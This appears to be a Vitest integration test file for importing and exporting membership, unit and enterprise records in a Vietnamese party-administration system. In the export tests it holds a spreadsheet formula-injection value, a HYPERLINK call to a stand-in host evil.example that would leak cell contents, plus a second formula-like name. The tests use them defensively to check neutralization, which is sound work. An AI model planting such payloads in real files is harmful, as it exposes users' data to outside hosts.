import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { createTestApp, type Client, type TestApp } from '../../../../test/helpers/app.ts';
import { insertUnit } from '../units/tree.ts';
import { makeVietnameseCitizenId } from '../../../shared/rules/citizen-id.ts';
import { PEOPLE_COLUMNS } from './import.people.rows.ts';

let t: TestApp;
let staff: Client;
let otherStaff: Client;
let secretary: Client;
const u = {} as Record<
  'province' | 'commune' | 'cell1' | 'cell2' | 'union' | 'late' | 'other' | 'otherCell',
  number
>;
let serial = 1;

const TODAY = '2026-11-20';
const HEAD = PEOPLE_COLUMNS.map((c) => c.name);
const cid = (year = 1980, sex: 'male' | 'female' = 'male') =>
  makeVietnameseCitizenId('052', year, sex, serial++);

/** A people row from named cells, in the header's order. */
function personRow(cells: Partial<Record<string, string>>): string[] {
  return HEAD.map((h) => cells[h] ?? '');
}
const csvOf = (rows: string[][], head: string[] = HEAD, delimiter = ',') =>
  Buffer.from(
    [head, ...rows]
      .map((r) => r.map((c) => (/[",;\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(delimiter))
      .join('\r\n') + '\r\n',
  );

function form(fileName: string, content: Buffer, type = 'text/csv') {
  const boundary = '----grassrootstest' + Math.random().toString(16).slice(2);
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`,
  );
  return {
    body: Buffer.concat([head, content, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    type: `multipart/form-data; boundary=${boundary}`,
  };
}

function client(c: Client) {
  return {
    get: (url: string) => t.app.inject({ method: 'GET', url, headers: { cookie: c.cookie } }),
    upload: (kind: string, fileName: string, content: Buffer, type?: string) => {
      const f = form(fileName, content, type);
      return t.app.inject({
        method: 'POST',
        url: `/api/v1/imports?kind=${kind}`,
        headers: { cookie: c.cookie, 'x-csrf-token': c.csrf, 'content-type': f.type },
        payload: f.body,
      });
    },
  };
}

interface Job {
  id: number;
  status: string;
  phase: string;
  totalRows: number;
  processedRows: number;
  errorCount: number;
  errors: { row: number | null; column: string | null; code: string; message: string }[];
  summary: Record<string, { created: number; updated: number; unchanged: number }>;
}

async function finished(c: Client, jobId: number): Promise<Job> {
  for (let i = 0; i < 2400; i++) {
    const res = await client(c).get(`/api/v1/imports/${jobId}`);
    expect(res.statusCode, res.body).toBe(200);
    const job = res.json() as Job;
    if (job.status !== 'running') return job;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('import did not finish');
}

async function importFile(
  c: Client,
  kind: string,
  fileName: string,
  content: Buffer,
  type?: string,
): Promise<Job> {
  const res = await client(c).upload(kind, fileName, content, type);
  expect(res.statusCode, res.body).toBe(202);
  return finished(c, (res.json() as { jobId: number }).jobId);
}

async function count(table: string): Promise<number> {
  return (await t.tdb.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table}`))[0]!.n;
}
const counts = async () => ({
  person: await count('person'),
  membership: await count('membership'),
  membership_event: await count('membership_event'),
  membership_period: await count('membership_period'),
  unit: await count('unit'),
  enterprise: await count('enterprise'),
});

async function readXlsx(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.read(Readable.from([buf]));
  return wb;
}

beforeAll(async () => {
  t = await createTestApp({ today: TODAY });
  const db = t.tdb.db;
  await db.tx(async (q) => {
    const unit = (code: string, parentId: number | null, name: string, kind: string, on = '2000-01-01') =>
      insertUnit(q, { code, parentId, name, kind, on });
    u.province = await unit('TP', null, 'Đảng bộ tỉnh Thử Nghiệm', 'province_committee');
    u.commune = await unit('TP.X1', u.province, 'Đảng bộ xã An Hòa', 'commune_committee');
    u.cell1 = await unit('TP.X1.C1', u.commune, 'Chi bộ thôn 1', 'party_cell');
    u.cell2 = await unit('TP.X1.C2', u.commune, 'Chi bộ thôn 2', 'party_cell');
    u.union = await unit('TP.X1.CD', u.commune, 'Công đoàn cơ sở An Hòa', 'grassroots_trade_union');
    u.late = await unit('TP.X1.C9', u.commune, 'Chi bộ mới', 'party_cell', '2020-01-01');
    u.other = await unit('OP', null, 'Đảng bộ tỉnh Khác', 'province_committee');
    u.otherCell = await unit('OP.C1', u.other, 'Chi bộ tỉnh khác', 'party_cell');
  });
  staff = await t.login('committee_staff', u.province);
  otherStaff = await t.login('committee_staff', u.other);
  secretary = await t.login('cell_secretary', u.cell1);
});
afterAll(async () => t?.close());

describe('people import', () => {
  const people = {
    official: cid(1975),
    applicant: cid(1990, 'female'),
    plain: cid(1985),
  };
  const file = () =>
    csvOf([
      personRow({
        citizen_id: people.official,
        full_name: 'Nguyễn Văn An',
        birth_date: '1975-03-04',
        sex: 'male',
        ethnicity: 'Kinh',
        registered_unit_code: 'TP.X1.C1',
        party_unit_code: 'TP.X1.C1',
        party_card_number: '52001234',
        party_applied_on: '2014-06-01',
        party_admitted_on: '2015-01-10',
        party_recognized_on: '2016-01-10',
        trade_union_unit_code: 'TP.X1.CD',
        trade_union_joined_on: '2012-05-01',
      }),
      personRow({
        citizen_id: people.applicant,
        full_name: 'Trần Thị Bình',
        birth_date: '1990-07-08',
        sex: 'female',
        registered_unit_code: 'TP.X1.C2',
        party_unit_code: 'TP.X1.C2',
        party_applied_on: '2026-03-01',
      }),
      personRow({
        citizen_id: people.plain,
        full_name: 'Lê Văn Cường',
        birth_date: '1985-01-01',
        registered_unit_code: 'TP.X1',
      }),
    ]);

  it('writes people with their memberships, and the same file again changes nothing', async () => {
    const before = await counts();
    const first = await importFile(staff, 'people', 'people.csv', file());
    expect(first.status, JSON.stringify(first.errors)).toBe('succeeded');
    expect(first.phase).toBe('done');
    expect(first.totalRows).toBe(3);
    expect(first.summary).toEqual({
      people: { created: 3, updated: 0, unchanged: 0 },
      memberships: { created: 3, updated: 0, unchanged: 0 },
    });
    const after = await counts();
    expect(after.person - before.person).toBe(3);
    expect(after.membership - before.membership).toBe(3);
    expect(after.membership_event - before.membership_event).toBe(5);

    const cell1 = await t.tdb.db.query<{ status: string; n: number }>(
      `SELECT status, n FROM unit_member_count WHERE unit_id = $1 AND family = 'party' AND role = 'home' AND n <> 0`,
      [u.cell1],
    );
    expect(cell1).toEqual([{ status: 'official', n: 1 }]);
    const person = await t.tdb.db.query<{ search_name: string; card_number: string }>(
      `SELECT p.search_name, m.card_number FROM person p JOIN membership m ON m.person_id = p.id AND m.family = 'party' WHERE p.citizen_id = $1`,
      [people.official],
    );
    expect(person).toEqual([{ search_name: 'nguyen van an', card_number: '52001234' }]);

    const again = await importFile(staff, 'people', 'people.csv', file());
    expect(again.status, JSON.stringify(again.errors)).toBe('succeeded');
    expect(again.summary).toEqual({
      people: { created: 0, updated: 0, unchanged: 3 },
      memberships: { created: 0, updated: 0, unchanged: 3 },
    });
    expect(await counts()).toEqual(after);

    const audit = await t.tdb.db.query<{ action: string; details: { rows: number } }>(
      `SELECT action, details FROM audit_log WHERE action = 'import.people' AND record_id = $1`,
      [String(first.id)],
    );
    expect(audit).toHaveLength(1);
    expect(audit[0]!.details.rows).toBe(3);
  });

  it('updates a person whose cells changed and refuses a membership with a different history', async () => {
    const changed = csvOf([
      personRow({
        citizen_id: people.plain,
        full_name: 'Lê Văn Cường',
        birth_date: '1985-01-01',
        phone: '0912 345 678',
        registered_unit_code: 'TP.X1',
      }),
    ]);
    const job = await importFile(staff, 'people', 'people.csv', changed);
    expect(job.summary.people).toEqual({ created: 0, updated: 1, unchanged: 0 });

    const rewritten = csvOf([
      personRow({
        citizen_id: people.applicant,
        full_name: 'Trần Thị Bình',
        birth_date: '1990-07-08',
        sex: 'female',
        registered_unit_code: 'TP.X1.C2',
        party_unit_code: 'TP.X1.C2',
        party_applied_on: '2026-02-01',
      }),
    ]);
    const refused = await importFile(staff, 'people', 'people.csv', rewritten);
    expect(refused.status).toBe('failed');
    expect(refused.errors.map((e) => [e.row, e.column, e.code])).toEqual([
      [null, null, 'import.row_errors'],
      [2, 'party_unit_code', 'import.cell.invalid'],
    ]);
  });

  it('reports each broken rule at its row and column', async () => {
    const rows = [
      personRow({ citizen_id: '12345', full_name: 'A', registered_unit_code: 'TP.X1' }),
      personRow({ citizen_id: cid(), full_name: '', registered_unit_code: 'NOPE' }),
      personRow({
        citizen_id: cid(1970),
        full_name: 'B',
        registered_unit_code: 'TP.X1',
        party_unit_code: 'TP.X1.C1',
        party_admitted_on: '2020-01-01',
        party_recognized_on: '2020-06-01',
      }),
      personRow({
        citizen_id: cid(1970),
        full_name: 'C',
        registered_unit_code: 'TP.X1',
        party_unit_code: 'TP.X1.CD',
        party_admitted_on: '2020-01-01',
      }),
      personRow({
        citizen_id: cid(1970),
        full_name: 'D',
        registered_unit_code: 'TP.X1',
        party_unit_code: 'TP.X1.C9',
        party_admitted_on: '2019-01-01',
      }),
      personRow({
        citizen_id: cid(1970),
        full_name: 'E',
        registered_unit_code: 'TP.X1',
        trade_union_unit_code: 'TP.X1.CD',
      }),
      personRow({
        citizen_id: cid(1970),
        full_name: 'F',
        birth_date: '2027-01-01',
        sex: 'x',
        registered_unit_code: 'TP.X1',
      }),
    ];
    const dup = rows[2]![0]!;
    rows.push(personRow({ citizen_id: dup, full_name: 'G', registered_unit_code: 'TP.X1' }));
    const job = await importFile(staff, 'people', 'people.csv', csvOf(rows));
    expect(job.status).toBe('failed');
    expect(job.errors.map((e) => [e.row, e.column, e.code])).toEqual([
      [null, null, 'import.row_errors'],
      [2, 'citizen_id', 'citizen_id.invalid'],
      [3, 'full_name', 'import.cell.required'],
      [3, 'registered_unit_code', 'import.cell.unknown_unit'],
      [4, 'party_recognized_on', 'membership.recognize_too_early'],
      [5, 'party_unit_code', 'membership.unit_wrong_family'],
      [6, 'party_admitted_on', 'membership.unit_closed'],
      [7, 'trade_union_joined_on', 'import.cell.required'],
      [8, 'birth_date', 'membership.future_date'],
      [8, 'sex', 'import.cell.invalid'],
      [9, 'citizen_id', 'import.cell.duplicate_in_file'],
    ]);
    expect(job.errorCount).toBe(10);
    // messages are in the caller's language (the test accounts use Vietnamese)
    expect(job.errors[3]!.message).toBe('Không có đơn vị mã "NOPE" trong phạm vi của bạn.');
  });

  it('treats a unit outside the caller\u2019s scope exactly like a missing one', async () => {
    const before = await counts();
    const job = await importFile(
      staff,
      'people',
      'people.csv',
      csvOf([
        personRow({ citizen_id: cid(), full_name: 'Ngoài phạm vi', registered_unit_code: 'OP.C1' }),
        personRow({ citizen_id: cid(), full_name: 'Không có', registered_unit_code: 'XX.404' }),
      ]),
    );
    expect(job.errors.slice(1).map((e) => [e.row, e.code, e.message.replace(/OP\.C1|XX\.404/, '…')])).toEqual(
      [
        [2, 'import.cell.unknown_unit', 'Không có đơn vị mã "…" trong phạm vi của bạn.'],
        [3, 'import.cell.unknown_unit', 'Không có đơn vị mã "…" trong phạm vi của bạn.'],
      ],
    );
    expect(await counts()).toEqual(before);
    // a person registered outside the caller's scope is not updated through a file either
    const outside = await importFile(
      otherStaff,
      'people',
      'people.csv',
      csvOf([
        personRow({ citizen_id: people.plain, full_name: 'Lê Văn Cường', registered_unit_code: 'OP.C1' }),
      ]),
    );
    expect(outside.errors.slice(1).map((e) => [e.row, e.column, e.code])).toEqual([
      [2, 'citizen_id', 'citizen_id.duplicate'],
    ]);
  });

  it('writes the same periods and counts as rebuilding every membership from its events', async () => {
    // every history a file can hold, into a database that already has members (the tests above)
    const rows = [
      { party_applied_on: '2026-03-01' },
      { party_applied_on: '2020-05-05', party_admitted_on: '2020-05-05' },
      { party_applied_on: '2019-01-01', party_admitted_on: '2025-12-01' },
      { party_admitted_on: '2021-02-28', party_recognized_on: '2022-02-28' },
      { party_applied_on: '2015-01-01', party_admitted_on: '2016-03-31', party_recognized_on: '2017-04-01' },
      { party_card_number: '52009999' },
    ].map((dates, i) =>
      personRow({
        citizen_id: cid(1970 + i),
        full_name: `Người đối chiếu ${i}`,
        registered_unit_code: 'TP.X1',
        party_unit_code: 'TP.X1.C2', // not TP.X1.C1, whose members the export tests count
        ...dates,
        ...(i % 3 === 0 ? { trade_union_unit_code: 'TP.X1.CD', trade_union_joined_on: '2018-07-01' } : {}),
      }),
    );
    // an existing person with a new membership
    rows.push(
      personRow({
        citizen_id: people.plain,
        full_name: 'Lê Văn Cường',
        birth_date: '1985-01-01',
        phone: '0912 345 678',
        registered_unit_code: 'TP.X1',
        trade_union_unit_code: 'TP.X1.CD',
        trade_union_joined_on: '2020-01-01',
      }),
    );
    const job = await importFile(staff, 'people', 'people.csv', csvOf(rows));
    expect(job.status, JSON.stringify(job.errors)).toBe('succeeded');
    expect(job.summary.memberships).toEqual({ created: 9, updated: 0, unchanged: 0 });

    const db = t.tdb.db;
    const snapshot = async () => ({
      periods: await db.query(
        `SELECT membership_id, family, role, unit_id, status, valid_from, valid_to FROM membership_period ORDER BY 1, 2, 3, 6`,
      ),
      counts: await db.query(
        `SELECT unit_id, family, role, status, n FROM unit_member_count WHERE n <> 0 ORDER BY 1, 2, 3, 4`,
      ),
      subtree: await db.query(
        `SELECT unit_id, family, role, status, n FROM unit_subtree_count WHERE n <> 0 ORDER BY 1, 2, 3, 4`,
      ),
    });
    const imported = await snapshot();
    expect(imported.periods.length).toBeGreaterThan(9);
    // today's counts are the current periods
    expect(imported.counts).toEqual(
      await db.query(
        `SELECT unit_id, family, role, status, count(*)::int AS n FROM membership_period WHERE valid_to = 'infinity'
         GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4`,
      ),
    );
    const { rebuildMemberships } = await import('../people/periods.ts');
    const { rebuildSubtreeAggregates } = await import('../units/aggregates.ts');
    const ids = (await db.query<{ id: number }>('SELECT id FROM membership ORDER BY id')).map((r) => r.id);
    await db.tx(async (q) => {
      await rebuildMemberships(q, ids, TODAY);
      await rebuildSubtreeAggregates(q);
    });
    expect(await snapshot()).toEqual(imported);
  });

  it('fails the whole job on one bad row among 10,000 and writes nothing', async () => {
    const rows: string[][] = [];
    for (let i = 0; i < 10_000; i++) {
      const year = 1950 + (i % 50);
      rows.push(
        personRow({
          citizen_id: makeVietnameseCitizenId('001', year, 'female', 500_000 + i),
          full_name: `Người thử ${i}`,
          birth_date: `${year}-02-03`,
          sex: 'female',
          registered_unit_code: 'TP.X1.C2',
          party_unit_code: 'TP.X1.C2',
          party_admitted_on: '2021-05-05',
          party_recognized_on: i === 6_543 ? '2021-13-05' : '2022-05-05',
        }),
      );
    }
    const before = await counts();
    const job = await importFile(staff, 'people', 'big.csv', csvOf(rows));
    expect(job.status).toBe('failed');
    expect(job.totalRows).toBe(10_000);
    expect(job.processedRows).toBe(10_000);
    expect(job.errorCount).toBe(1);
    expect(job.errors.map((e) => [e.row, e.column, e.code])).toEqual([
      [null, null, 'import.row_errors'],
      [6_545, 'party_recognized_on', 'date.invalid'],
    ]);
    expect(await counts()).toEqual(before);
  });
});

describe('files', () => {
  it('refuses headers that do not match, naming what is missing and what is unknown', async () => {
    const head = HEAD.filter((h) => h !== 'full_name').concat(['nickname']);
    const res = await client(staff).upload('people', 'people.csv', csvOf([], head));
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ code: 'import.bad_headers' });
    expect(res.json().detail).toContain('full_name');
    expect(res.json().detail).toContain('nickname');
  });

  it('accepts semicolons, a byte-order mark and headers in any order or case', async () => {
    const head = ['Name', 'CODE', 'ownership', 'sector', 'address', 'workforce'];
    const body = Buffer.concat([
      Buffer.from('\uFEFF'),
      csvOf([['Công ty Hòa Bình; chi nhánh 2', 'DN-1', 'non_state', '', 'Số 1, đường 2', '120']], head, ';'),
    ]);
    const job = await importFile(staff, 'enterprises', 'dn.csv', body);
    expect(job.status, JSON.stringify(job.errors)).toBe('succeeded');
    expect(job.summary).toEqual({ enterprises: { created: 1, updated: 0, unchanged: 0 } });
    const row = await t.tdb.db.query('SELECT name, address, workforce FROM enterprise WHERE code = $1', [
      'DN-1',
    ]);
    expect(row).toEqual([
      { name: 'Công ty Hòa Bình; chi nhánh 2', address: 'Số 1, đường 2', workforce: 120 },
    ]);
  });

  it('refuses a CSV that is not UTF-8', async () => {
    // "Nguyễn" in Windows-1258 is not valid UTF-8
    const latin = Buffer.concat([
      csvOf([]),
      Buffer.from([0x4e, 0x67, 0x75, 0x79, 0xea, 0xde, 0x6e, 0x2c, 0x0d, 0x0a]),
    ]);
    const res = await client(staff).upload('people', 'people.csv', latin);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ code: 'import.encoding' });
  });

  it('refuses a truncated or damaged XLSX with 422, and reads a good one', async () => {
    const tpl = await client(staff).get('/api/v1/imports/templates/enterprises?format=xlsx');
    expect(tpl.statusCode).toBe(200);
    const wb = await readXlsx(tpl.rawPayload);
    wb.getWorksheet('Data')!.addRow(['DN-2', 'Hợp tác xã Đông Hải', 'non_state', 'Thủy sản', '', 35]);
    const good = Buffer.from(await wb.xlsx.writeBuffer());
    const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

    const truncated = await client(staff).upload(
      'enterprises',
      'dn.xlsx',
      good.subarray(0, Math.floor(good.length * 0.6)),
      xlsxType,
    );
    expect(truncated.statusCode).toBe(422);
    expect(truncated.json()).toMatchObject({ code: 'import.file_corrupt' });

    const damaged = Buffer.from(good);
    for (let i = Math.floor(damaged.length / 2); i < Math.floor(damaged.length / 2) + 400; i++)
      damaged[i] = (damaged[i]! * 7 + 13) & 255;
    const res = await client(staff).upload('enterprises', 'dn.xlsx', damaged, xlsxType);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ code: 'import.file_corrupt' });

    const job = await importFile(staff, 'enterprises', 'dn.xlsx', good, xlsxType);
    expect(job.status, JSON.stringify(job.errors)).toBe('succeeded');
    expect(job.summary.enterprises).toEqual({ created: 1, updated: 0, unchanged: 0 });
  });

  it('reads XLSX date cells and citizen IDs typed as numbers (leading zero lost) as the text they stand for', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Data');
    ws.addRow(HEAD);
    const id = makeVietnameseCitizenId('001', 1988, 'male', 777);
    const cells = personRow({ full_name: 'Phạm Văn Số', sex: 'male', registered_unit_code: 'TP.X1.C1' });
    const row: (string | number | Date)[] = [...cells];
    row[HEAD.indexOf('citizen_id')] = Number(id);
    row[HEAD.indexOf('birth_date')] = new Date(Date.UTC(1988, 4, 6));
    ws.addRow(row);
    const job = await importFile(
      staff,
      'people',
      'people.xlsx',
      Buffer.from(await wb.xlsx.writeBuffer()),
      'application/octet-stream',
    );
    expect(job.status, JSON.stringify(job.errors)).toBe('succeeded');
    const saved = await t.tdb.db.query('SELECT citizen_id, birth_date FROM person WHERE full_name = $1', [
      'Phạm Văn Số',
    ]);
    expect(saved).toEqual([{ citizen_id: id, birth_date: '1988-05-06' }]);
  });

  it('gives templates with the headers (CSV with a byte-order mark, XLSX with a Help sheet)', async () => {
    const csv = await client(staff).get('/api/v1/imports/templates/people?format=csv');
    expect(csv.headers['content-disposition']).toMatch(
      /^attachment; filename="grassroots-people-template\.csv"$/,
    );
    expect(csv.body).toBe('\uFEFF' + HEAD.join(',') + '\r\n');
    const xlsx = await client(staff).get('/api/v1/imports/templates/units?format=xlsx');
    const wb = await readXlsx(xlsx.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Data', 'Help']);
    expect(wb.getWorksheet('Data')!.getRow(1).values).toEqual([
      undefined,
      'code',
      'name',
      'kind',
      'parent_code',
      'established_on',
      'enterprise_code',
    ]);
    expect(wb.getWorksheet('Help')!.rowCount).toBe(7);
  });

  it('shows a job only to the account that started it', async () => {
    const job = await importFile(
      staff,
      'enterprises',
      'dn.csv',
      csvOf(
        [['DN-3', 'Công ty Ba', 'state_owned', '', '', '']],
        ['code', 'name', 'ownership', 'sector', 'address', 'workforce'],
      ),
    );
    expect((await client(otherStaff).get(`/api/v1/imports/${job.id}`)).statusCode).toBe(404);
    expect((await client(secretary).upload('enterprises', 'dn.csv', csvOf([], ['code']))).statusCode).toBe(
      403,
    );
  });
});

describe('units and enterprises import', () => {
  const head = ['code', 'name', 'kind', 'parent_code', 'established_on', 'enterprise_code'];
  const file = (name = 'Chi bộ Doanh nghiệp A') =>
    csvOf(
      [
        ['TP.X2', 'Đảng bộ xã Bình Minh', 'commune_committee', 'TP', '2001-01-01', ''],
        ['TP.X2.G1', 'Đảng bộ cơ sở Công ty A', 'grassroots_party_committee', 'TP.X2', '2005-01-01', 'DN-1'],
        ['TP.X2.G1.C1', name, 'party_cell', 'TP.X2.G1', '2005-02-01', ''],
        ['TP.X2.G1.C2', 'Chi bộ Doanh nghiệp B', 'party_cell', 'TP.X2.G1', '2005-02-01', ''],
      ],
      head,
    );

  it('establishes units under parents earlier in the file, then skips them; a difference is a row error', async () => {
    const job = await importFile(staff, 'units', 'units.csv', file());
    expect(job.status, JSON.stringify(job.errors)).toBe('succeeded');
    expect(job.summary).toEqual({ units: { created: 4, updated: 0, unchanged: 0 } });
    const path = await t.tdb.db.query<{ code: string; depth: number }>(
      `SELECT a.code, c.depth FROM unit_closure c JOIN unit a ON a.id = c.ancestor_id JOIN unit d ON d.id = c.descendant_id
       WHERE d.code = 'TP.X2.G1.C1' AND c.valid_to = 'infinity' ORDER BY c.depth`,
    );
    expect(path).toEqual([
      { code: 'TP.X2.G1.C1', depth: 0 },
      { code: 'TP.X2.G1', depth: 1 },
      { code: 'TP.X2', depth: 2 },
      { code: 'TP', depth: 3 },
    ]);
    const events = await t.tdb.db.query(
      `SELECT kind FROM unit_event e JOIN unit u ON u.id = e.unit_id WHERE u.code = 'TP.X2.G1'`,
    );
    expect(events).toEqual([{ kind: 'established' }]);
    const { rebuildSubtreeAggregates } = await import('../units/aggregates.ts');
    const kinds = () =>
      t.tdb.db.query(`SELECT unit_id, kind_code, n FROM unit_subtree_kind WHERE n <> 0 ORDER BY 1, 2`);
    const incremental = await kinds();
    await t.tdb.db.tx((q) => rebuildSubtreeAggregates(q));
    expect(await kinds()).toEqual(incremental);

    const again = await importFile(staff, 'units', 'units.csv', file());
    expect(again.summary).toEqual({ units: { created: 0, updated: 0, unchanged: 4 } });

    const renamed = await importFile(staff, 'units', 'units.csv', file('Chi bộ đổi tên'));
    expect(renamed.errors.slice(1).map((e) => [e.row, e.column, e.code])).toEqual([
      [4, 'name', 'import.cell.unit_differs'],
    ]);

    const outside = await importFile(
      staff,
      'units',
      'units.csv',
      csvOf(
        [
          ['OP.C2', 'Chi bộ', 'party_cell', 'OP', '2005-01-01', ''],
          ['X.1', 'Chi bộ', 'no_such_kind', 'TP', '2030-01-01', 'DN-404'],
        ],
        head,
      ),
    );
    expect(outside.errors.slice(1).map((e) => [e.row, e.column, e.code])).toEqual([
      [2, 'parent_code', 'import.cell.unknown_unit'],
      [3, 'kind', 'unit.unknown_kind'],
      [3, 'established_on', 'unit.future_date'],
    ]);
  });

  it('upserts enterprises by code', async () => {
    const headE = ['code', 'name', 'ownership', 'sector', 'address', 'workforce'];
    const job = await importFile(
      staff,
      'enterprises',
      'dn.csv',
      csvOf(
        [
          ['DN-1', 'Công ty Hòa Bình; chi nhánh 2', 'non_state', '', 'Số 1, đường 2', '150'],
          ['DN-9', 'Công ty Chín', 'foreign_invested', 'May mặc', '', ''],
        ],
        headE,
      ),
    );
    expect(job.summary).toEqual({ enterprises: { created: 1, updated: 1, unchanged: 0 } });
  });
});

describe('exports', () => {
  beforeAll(async () => {
    const job = await importFile(
      staff,
      'people',
      'people.csv',
      csvOf([
        personRow({
          citizen_id: cid(1980),
          full_name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
          registered_unit_code: 'TP.X1.C1',
          party_unit_code: 'TP.X1.C1',
          party_admitted_on: '2024-01-01',
        }),
        personRow({ citizen_id: cid(1981), full_name: '@SUM(1+1)', registered_unit_code: 'TP.X1.C1' }),
      ]),
    );
    expect(job.status, JSON.stringify(job.errors)).toBe('succeeded');
    const other = await importFile(
      otherStaff,
      'people',
      'people.csv',
      csvOf([
        personRow({
          citizen_id: cid(1982),
          full_name: 'Người tỉnh khác',
          registered_unit_code: 'OP.C1',
          party_unit_code: 'OP.C1',
          party_admitted_on: '2024-01-01',
        }),
      ]),
    );
    expect(other.status, JSON.stringify(other.errors)).toBe('succeeded');
  });

  it('exports the scoped people list as XLSX that exceljs opens, with formula-like names as text', async () => {
    const res = await client(staff).get('/api/v1/people/export?format=xlsx');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="people-2026-11-20\.xlsx"$/);
    const ws = (await readXlsx(res.rawPayload)).worksheets[0]!;
    expect(ws.getRow(1).getCell(2).value).toBe('Họ và tên');
    const names: unknown[] = [];
    ws.eachRow((row, n) => {
      if (n > 1) names.push(row.getCell(2).value);
    });
    expect(names).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")');
    expect(names).toContain("'@SUM(1+1)");
    expect(names).toContain('Nguyễn Văn An');
    expect(names).not.toContain('Người tỉnh khác');
    expect(names.every((n) => typeof n === 'string')).toBe(true);
    ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));

    const audit = await t.tdb.db.query<{ details: { rows: number } }>(
      `SELECT details FROM audit_log WHERE action = 'person.export' AND actor_account_id = $1 ORDER BY id DESC LIMIT 1`,
      [staff.accountId],
    );
    expect(audit[0]!.details.rows).toBe(names.length);
  });

  it('exports CSV with a byte-order mark, neutralized cells and the same filters as the list', async () => {
    const res = await client(staff).get(`/api/v1/people/export?format=csv&q=hyperlink`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = res.body.slice(1).trimEnd().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]!.split(',').slice(0, 3)).toEqual(['Mã', 'Họ và tên', 'Ngày sinh']);
    expect(lines[1]).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")"');
    expect(lines[1]).toContain('Đảng viên dự bị');
  });

  it('refuses an export to an account without the export permission', async () => {
    const member = await t.login('member', u.cell1);
    expect((await client(member).get('/api/v1/people/export?format=csv')).statusCode).toBe(403);
  });

  it('exports a statistics drill-down list', async () => {
    const res = await client(secretary).get(
      `/api/v1/units/${u.cell1}/statistics/members/export?format=csv&family=party`,
    );
    expect(res.statusCode, res.body).toBe(200);
    const lines = res.body.slice(1).trimEnd().split('\r\n');
    expect(lines.length).toBe(3);
    expect(res.body).toContain('Nguyễn Văn An');
    expect(
      (await client(secretary).get(`/api/v1/units/${u.otherCell}/statistics/members/export?format=csv`))
        .statusCode,
    ).toBe(404);
  });
});

describe('command line', () => {
  it('imports a file as a named account and exports that account\u2019s people to a file', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grassroots-transfer-'));
    try {
      const file = path.join(dir, 'dn.csv');
      fs.writeFileSync(
        file,
        csvOf(
          [['DN-CLI', 'Công ty Dòng Lệnh', 'non_state', '', '', '']],
          ['code', 'name', 'ownership', 'sector', 'address', 'workforce'],
        ),
      );
      const lines: string[] = [];
      const code = await t.services.transfer.importFileCli({
        kind: 'enterprises',
        file,
        username: staff.username,
        log: (m) => lines.push(m),
      });
      expect(code, lines.join('\n')).toBe(0);
      expect(lines.join('\n')).toContain('enterprises: 1 created, 0 updated, 0 unchanged');

      const out = path.join(dir, 'people.xlsx');
      const rows = await t.services.transfer.exportPeopleCli({
        username: staff.username,
        out,
        unitId: u.cell1,
      });
      expect(rows).toBeGreaterThan(0);
      const ws = (await readXlsx(fs.readFileSync(out))).worksheets[0]!;
      expect(ws.rowCount).toBe(rows + 1);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
